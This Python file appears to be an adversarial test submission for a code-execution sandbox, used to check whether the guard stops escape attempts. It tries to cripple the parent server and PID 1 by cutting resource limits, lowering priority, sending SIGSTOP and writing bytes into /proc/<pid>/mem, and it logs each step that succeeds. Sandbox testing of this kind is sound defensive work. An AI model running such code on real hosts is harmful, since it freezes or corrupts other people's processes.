# Reach the server (the next submission's parent): lower its limits, its priority and CPU affinity, and every
# process of this uid's; write its memory; stop it.
import os as _os
import resource as _resource
import signal as _signal

_done = []
print("ATTACK-RAN server_limits")
for _pid in {_os.getppid(), 1}:
    for _name, _value in (("RLIMIT_NOFILE", (8, 8)), ("RLIMIT_AS", (64 << 20, 64 << 20)), ("RLIMIT_CPU", (1, 1)),
                          ("RLIMIT_NPROC", (1, 1)), ("RLIMIT_FSIZE", (0, 0)), ("RLIMIT_STACK", (1 << 16, 1 << 16))):
        try:
            _resource.prlimit(_pid, getattr(_resource, _name), _value)
            _done.append(f"prlimit {_pid} {_name}")
        except BaseException:
            pass
    for _call in (lambda: _os.setpriority(_os.PRIO_PROCESS, _pid, 19),
                  lambda: _os.setpriority(_os.PRIO_USER, _os.getuid(), 19),
                  lambda: _os.setpriority(_os.PRIO_PGRP, 0, 19),
                  lambda: _os.sched_setaffinity(_pid, {0}),
                  lambda: _os.sched_setscheduler(_pid, _os.SCHED_IDLE, _os.sched_param(0)),
                  lambda: _os.kill(_pid, _signal.SIGSTOP)):
        try:
            _call()
            _done.append("call")
        except BaseException:
            pass
    try:
        with open(f"/proc/{_pid}/mem", "r+b") as _f:
            _f.seek(0x400000)
            _f.write(b"\xcc" * 64)
            _done.append("mem")
    except BaseException:  # the guard refuses it (an audit hook), or the kernel does
        pass
# Its own hard limits lowered too: they must not reach the next child.
for _name in ("RLIMIT_NOFILE", "RLIMIT_CPU", "RLIMIT_AS"):
    try:
        _soft, _hard = _resource.getrlimit(getattr(_resource, _name))
        _resource.setrlimit(getattr(_resource, _name), (_soft, _soft))
    except BaseException:
        pass
print("server_limits reached:", _done)


def _leak(inputs):
    pass
